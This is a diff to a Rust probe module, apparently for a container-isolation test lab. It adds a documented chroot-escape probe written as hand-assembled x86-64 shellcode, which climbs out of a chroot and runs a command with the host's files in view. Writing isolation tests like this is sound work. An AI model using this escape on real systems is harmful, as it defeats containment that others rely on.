@@ -24,6 +24,12 @@
 //!   doubles. STREAM counts 24 bytes per element per pass (read b, read c, write a) and so do
 //!   we, so the figure compares with published STREAM numbers — except that the write-allocate
 //!   read of `a` the cache does behind our back is not counted, exactly as in STREAM.
+//! - `chroot-escape`: the classic escape from a chroot (C10) — `mkdir` a directory, `chroot`
+//!   into it *without* `chdir`, so the working directory is now outside the root; `chdir("..")`
+//!   64 times, which climbs to the real top because the root check only stops a walk that
+//!   passes *through* the root; `chroot(".")`; then `execve(argv[1], argv + 1)`. Run inside a
+//!   container entered with `chroot(2)`, the command then sees the host's files; entered with
+//!   `pivot_root(2)`, whose old root is unmounted, the climb ends at the container's own root.
 
 use std::io;
 use std::os::unix::fs::PermissionsExt;
@@ -97,6 +103,34 @@ const TRIAD: [u8; 147] = [
     0xb8, 0x3c, 0x00, 0x00, 0x00, 0x31, 0xff, 0x0f, 0x05, // exit(0)
 ];
 
+/// The chroot escape (position-independent: its strings are addressed relative to `rip`).
+/// Exits 1 when a `chroot` fails, 2 when the `execve` does.
+const CHROOT_ESCAPE: [u8; 150] = [
+    0x48, 0x89, 0xe3, // mov rbx, rsp (argc, argv, envp)
+    0x48, 0x8d, 0x3d, 0x73, 0x00, 0x00, 0x00, 0xbe, 0xed, 0x01, 0x00,
+    0x00, // lea rdi, dir; 0755
+    0xb8, 0x53, 0x00, 0x00, 0x00, 0x0f, 0x05, // mkdir
+    0x48, 0x8d, 0x3d, 0x60, 0x00, 0x00, 0x00, 0xb8, 0xa1, 0x00, 0x00, 0x00, 0x0f,
+    0x05, // chroot(dir)
+    0x85, 0xc0, 0x75, 0x49, // test eax, eax; jnz fail
+    0x41, 0xbc, 0x40, 0x00, 0x00, 0x00, // mov r12d, 64
+    0x48, 0x8d, 0x3d, 0x5c, 0x00, 0x00, 0x00, 0xb8, 0x50, 0x00, 0x00, 0x00, 0x0f,
+    0x05, // chdir("..")
+    0x41, 0xff, 0xcc, 0x75, 0xed, // dec r12d; jnz up
+    0x48, 0x8d, 0x3d, 0x4c, 0x00, 0x00, 0x00, 0xb8, 0xa1, 0x00, 0x00, 0x00, 0x0f,
+    0x05, // chroot(".")
+    0x85, 0xc0, 0x75, 0x1e, // test eax, eax; jnz fail
+    0x48, 0x8b, 0x7b, 0x10, 0x48, 0x8d, 0x73, 0x10, // rdi = argv[1]; rsi = &argv[1]
+    0x48, 0x8b, 0x03, 0x48, 0x8d, 0x54, 0xc3, 0x10, // rdx = envp
+    0xb8, 0x3b, 0x00, 0x00, 0x00, 0x0f, 0x05, // execve
+    0xbf, 0x02, 0x00, 0x00, 0x00, 0xeb, 0x05, // edi = 2; jmp out
+    0xbf, 0x01, 0x00, 0x00, 0x00, // fail: edi = 1
+    0xb8, 0x3c, 0x00, 0x00, 0x00, 0x0f, 0x05, // out: exit
+    b'/', b't', b'm', b'p', b'/', b'.', b'i', b's', b'o', b'l', b'a', b'b', b'-', b'e', b's', b'c',
+    b'a', b'p', b'e', 0, // "/tmp/.isolab-escape"
+    b'.', b'.', 0, b'.', 0, // "..", "."
+];
+
 /// STREAM's rule is that each array be at least four times the last-level cache, so the
 /// triad measures memory rather than cache: 128 MiB per array covers L3 caches up to 32 MiB.
 pub const TRIAD_ARRAY_BYTES: u64 = 128 << 20;
@@ -121,6 +155,8 @@ pub enum Probe {
     Memory { buffer_bytes: u64, passes: u64 },
     /// First touch of three f64 arrays of `array_bytes` each, then `passes` triad passes.
     Triad { array_bytes: u64, passes: u64 },
+    /// The chroot escape, then `execve` of its arguments (see the module docs).
+    ChrootEscape,
 }
 
 /// One triad array: whole 16-byte SSE steps, at least one.
@@ -175,6 +211,7 @@ impl Probe {
                 patch(&mut c, 65, passes);
                 c
             }
+            Probe::ChrootEscape => CHROOT_ESCAPE.to_vec(),
         }
     }
 
